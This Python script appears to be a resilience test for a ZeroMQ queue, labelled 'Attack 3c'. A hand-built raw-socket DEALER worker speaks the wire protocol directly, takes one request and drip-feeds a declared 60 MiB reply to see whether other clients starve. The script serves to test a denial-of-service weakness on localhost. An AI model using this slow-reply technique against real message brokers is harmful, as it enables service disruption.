#!/usr/bin/env python3
"""Attack 3c: queue. A hostile raw DEALER worker takes a client's request and answers it with one
60 MiB reply cut through at 20 KB per 4.9 s (pays the progress pace). Beside it: a libzmq echo
worker, and C libzmq DEALER clients, each sending small requests and counting replies.
usage: qreply.py FE BE --secs S --clients C [--hostile 0|1]"""
import argparse, json, socket, struct, threading, time, os, sys
import zmq
ap = argparse.ArgumentParser()
ap.add_argument("fe", type=int); ap.add_argument("be", type=int)
ap.add_argument("--secs", type=float, default=20); ap.add_argument("--clients", type=int, default=2)
ap.add_argument("--hostile", type=int, default=1); ap.add_argument("--big", type=int, default=60 << 20)
ap.add_argument("--nocap", action="store_true", help="clients send a request every ms regardless of replies")
ap.add_argument("--rate", type=float, default=0, help="instead: send the whole reply steadily at this B/s (a worker on a slow uplink)")
a = ap.parse_args()
ctx = zmq.Context(); stop = threading.Event()
h = {"hostile_requests": 0, "hostile_reply_started": 0, "hostile_closed": 0}
def recv_exact(s, n):
    b = b""
    while len(b) < n:
        d = s.recv(n - len(b))
        if not d: raise OSError("eof")
        b += d
    return b
def hostile():
    s = socket.socket(); s.connect(("127.0.0.1", a.be))
    greeting = b"\xff" + b"\0" * 8 + b"\x7f\x03\x01" + b"NULL".ljust(20, b"\0") + b"\0" * 32
    ready = b"\x05READY\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER"
    s.sendall(greeting + bytes([0x04, len(ready)]) + ready)
    recv_exact(s, 64)
    msg = []; first = None
    try:
        while first is None:
            fl = recv_exact(s, 1)[0]
            n = struct.unpack(">Q", recv_exact(s, 8))[0] if fl & 2 else recv_exact(s, 1)[0]
            body = recv_exact(s, n)
            if fl & 4: continue
            msg.append(body)
            if not fl & 1:
                h["hostile_requests"] += 1; first = msg; msg = []
    except OSError:
        h["hostile_closed"] += 1; return
    # keep reading in the background (it is a reading worker)
    def drain():
        try:
            while s.recv(65536): pass
        except OSError: pass
    threading.Thread(target=drain, daemon=True).start()
    env = first[:-1]  # routing id(s) + delimiter
    out = b""
    for f in env: out += bytes([1, len(f)]) + f
    out += b"\x02" + struct.pack(">Q", a.big)
    if a.rate:
        s.sendall(out); h["hostile_reply_started"] += 1; left = a.big
        try:
            while left > 0 and not stop.is_set():
                time.sleep(0.1); n = min(left, int(a.rate / 10)); s.sendall(b"h" * n); left -= n
            h["hostile_reply_done"] = 1
        except OSError: h["hostile_closed"] += 1
        return
    try:
        s.sendall(out + b"h" * (2 << 20)); h["hostile_reply_started"] += 1
        while not stop.is_set():
            time.sleep(4.9); s.sendall(b"h" * 20000)
    except OSError:
        h["hostile_closed"] += 1
def echo():
    s = ctx.socket(zmq.DEALER); s.setsockopt(zmq.RCVTIMEO, 200); s.setsockopt(zmq.LINGER, 0)
    s.connect("tcp://127.0.0.1:%d" % a.be)
    while not stop.is_set():
        try: m = s.recv_multipart()
        except zmq.Again: continue
        s.send_multipart(m)
got = [0] * a.clients; sent = [0] * a.clients; tl = []
def client(i):
    s = ctx.socket(zmq.DEALER); s.setsockopt(zmq.RCVTIMEO, 10); s.setsockopt(zmq.SNDTIMEO, 10); s.setsockopt(zmq.LINGER, 0)
    s.connect("tcp://127.0.0.1:%d" % a.fe)
    while not stop.is_set():
        if sent[i] - got[i] < 20 or a.nocap:
            try: s.send_multipart([b"", b"r%d" % sent[i]]); sent[i] += 1
            except zmq.Again: pass
        try:
            m = s.recv_multipart()
            if m[-1].startswith(b"r"): got[i] += 1
        except zmq.Again: pass
        if a.nocap: time.sleep(0.001)
threading.Thread(target=echo, daemon=True).start()
if a.hostile: threading.Thread(target=hostile, daemon=True).start()
time.sleep(0.5)
for i in range(a.clients): threading.Thread(target=client, args=(i,), daemon=True).start()
t0 = time.monotonic()
while time.monotonic() - t0 < a.secs:
    time.sleep(5); tl.append(list(got))
stop.set()
out = {"replies": got, "requests": sent, "per_5s": tl}; out.update(h)
print(json.dumps(out)); sys.stdout.flush(); os._exit(0)
